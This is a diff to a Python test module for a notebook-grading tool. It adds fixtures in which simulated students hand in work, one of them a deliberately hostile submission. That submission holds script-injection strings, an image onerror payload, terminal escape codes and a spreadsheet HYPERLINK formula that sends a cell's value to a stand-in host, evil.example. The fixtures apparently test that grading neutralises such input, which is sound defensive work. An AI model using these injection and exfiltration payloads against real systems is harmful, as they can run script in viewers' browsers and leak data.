@@ -6,16 +6,21 @@ import io
 import json
 import shutil
 import zipfile
+from functools import cache
 from pathlib import Path
 
 import nbformat
 import pytest
 
 from nevbook.curriculum import read_curriculum
+from nevbook.grading.collect import collect
 from nevbook.grading.enrol import enrol
 from nevbook.grading.handout import hand_out
 from nevbook.grading.roster import Student, write_roster
+from nevbook.grading.run import grade
 from nevbook.grading.school_class import SchoolClass
+from nevbook.grading.standing import standings
+from nevlab.jobcard import car_seed
 
 TINY = Path(__file__).parent / "data"
 EX = "tiny"
@@ -127,3 +132,69 @@ def submitted(school_class: SchoolClass, number: str):
     """Give the submission that would be graded, as id → source."""
     path = school_class.paths.submitted(number, EX) / f"{EX}.ipynb"
     return {cell.id: cell.source for cell in nbformat.read(path, as_version=4).cells}
+
+
+RIGHT, PARTLY, FAILING, HOSTILE, TWICE, EMPTY = (student.number for student in STUDENTS)
+ENTRY = "answers = card.answers(required_ohm=required_ohm)"
+SCRIPT = "<script>alert('gotcha')</script>"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+_HOSTILE_CODE = f"""
+from IPython.display import HTML, Javascript, display
+display(HTML("{SCRIPT}<img src=x onerror=alert(1)>"), Javascript("alert(2)"))
+print("{SCRIPT}")
+
+class Chatty(dict):
+    def __getitem__(self, key):
+        print("\\x1b[31m{SCRIPT}")
+        return super().__getitem__(key)
+
+answers = Chatty(answers)
+"""
+
+
+def asked_ohm(number: str) -> int:
+    """Work out the right answer by the exercise's own rule: 100 Ω for each volt of the student's own car."""
+    return 100 * (300 + car_seed(CODE, number, EX) % 100)
+
+
+def _hand_in_all(school_class: SchoolClass, folder: Path) -> None:
+    def notebook(text: str, **more: str) -> bytes:
+        return as_bytes(worked(school_class, required=f"required_ohm = {text}\n{ENTRY}", **more))
+
+    twice = worked(school_class, required="required_ohm = 1")
+    position = next(index for index, cell in enumerate(twice.cells) if cell.id == "required")
+    twice.cells.insert(position, dict(twice.cells[position], id="copy", source="required_ohm = 2"))
+    work = {
+        RIGHT: {
+            f"{EX}.ipynb": notebook("None"),
+            f"{EX}.jobcard.jsonl": record(RIGHT, required_ohm=asked_ohm(RIGHT), reason="U/R"),
+        },
+        PARTLY: {f"{EX}.ipynb": notebook(f"{asked_ohm(PARTLY)} / 1000", reason="typed below\n\nbecause of U/R")},
+        FAILING: {f"{EX}.ipynb": notebook("measured_ohm")},
+        HOSTILE: {f"{EX}.ipynb": notebook(f"{asked_ohm(HOSTILE)}\n{ENTRY}\n{_HOSTILE_CODE}#", reason=FORMULA + SCRIPT)},
+        TWICE: {f"{EX}.ipynb": as_bytes(twice)},
+        EMPTY: {"report.docx": b"no notebook"},
+    }
+    for number, files in work.items():
+        for name, data in files.items():
+            placed(folder / number / name, data)
+
+
+@cache
+def _graded(folder: Path) -> SchoolClass:
+    school_class = made_class(folder / "classes")
+    _hand_in_all(school_class, folder / "in")
+    collect(school_class, EX, folder / "in")
+    grade(school_class, EX, trust_students=True)
+    return school_class
+
+
+@pytest.fixture
+def graded_class(tmp_path_factory, tmp_path) -> SchoolClass:
+    """Give a copy of a class whose work was graded: kernels need seconds, so it is done once."""
+    return SchoolClass.open(shutil.copytree(_graded(tmp_path_factory.getbasetemp() / "graded").paths.folder, tmp_path / "class"))
+
+
+def by_number(school_class: SchoolClass):
+    """Give the standings by the students' numbers."""
+    return {found.student.number: found for found in standings(school_class, EX)}
